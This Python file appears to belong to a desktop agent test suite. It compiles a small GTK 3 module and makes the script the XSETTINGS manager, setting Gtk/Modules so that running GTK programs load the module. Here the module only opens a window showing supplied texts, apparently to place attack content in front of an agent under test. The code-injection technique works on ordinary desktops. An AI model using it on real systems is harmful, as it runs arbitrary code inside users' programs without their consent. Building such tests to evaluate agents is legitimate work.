"""Settings of the desktop that make programs load code of an agent's."""

from __future__ import annotations

import shutil
import struct
import subprocess
import sys
import time
from pathlib import Path

from deskgym.task_suites.core.verify.attacks.inside.processes import stay

MODULE = """
void *gtk_window_new(int), *gtk_box_new(int, int), *gtk_label_new(const char *), *gtk_entry_new(void);
void gtk_container_add(void *, void *), gtk_entry_set_text(void *, const char *), gtk_widget_show_all(void *);
const char *texts[] = {%s 0};
void gtk_module_init(void *a, void *b) {
    void *window = gtk_window_new(0), *box = gtk_box_new(1, 0), *entry;
    for (const char **text = texts; *text; text++) {
        gtk_container_add(box, gtk_label_new(*text));
        gtk_container_add(box, entry = gtk_entry_new());
        gtk_entry_set_text(entry, *text);
    }
    gtk_container_add(window, box);
    gtk_widget_show_all(window);
}
"""
"""A module of GTK 3 that shows texts in a window of the program that loads it."""


def load_module(texts: list[str]) -> None:
    """Become the manager of XSETTINGS, and name a module, which GTK 3 programs then load; built where a compiler is."""
    quoted = "".join('"' + "".join(f"\\{byte:03o}" for byte in text.encode()) + '",' for text in texts)
    Path("/tmp/module.c").write_text(MODULE % quoted)
    if shutil.which("cc"):
        subprocess.run(["cc", "-shared", "-fPIC", "-o", "/tmp/module.so", "/tmp/module.c"], check=True)
    stay("manage_settings('/tmp/module.so')")
    time.sleep(2.0)


def manage_settings(module: str) -> None:
    """Become the manager of XSETTINGS, whose only setting is Gtk/Modules."""
    from Xlib import X, display
    from Xlib.protocol import event

    screen = display.Display()
    root, kind = screen.screen().root, screen.intern_atom("_XSETTINGS_SETTINGS")
    name, value = b"Gtk/Modules", module.encode()
    setting = struct.pack("=BxH12sII", 1, len(name), name, 1, len(value)) + value + bytes(-len(value) % 4)
    window = root.create_window(0, 0, 1, 1, 0, X.CopyFromParent)
    window.change_property(kind, kind, 8, struct.pack("=B3xII", sys.byteorder == "big", 1, 1) + setting)
    manager, selection = screen.intern_atom("MANAGER"), screen.intern_atom("_XSETTINGS_S0")
    window.set_selection_owner(selection, X.CurrentTime)
    message = event.ClientMessage(window=root, client_type=manager, data=(32, [0, selection, window.id, 0, 0]))
    root.send_event(message, event_mask=X.StructureNotifyMask)
    screen.sync()
    print("there", flush=True)
    time.sleep(3600)
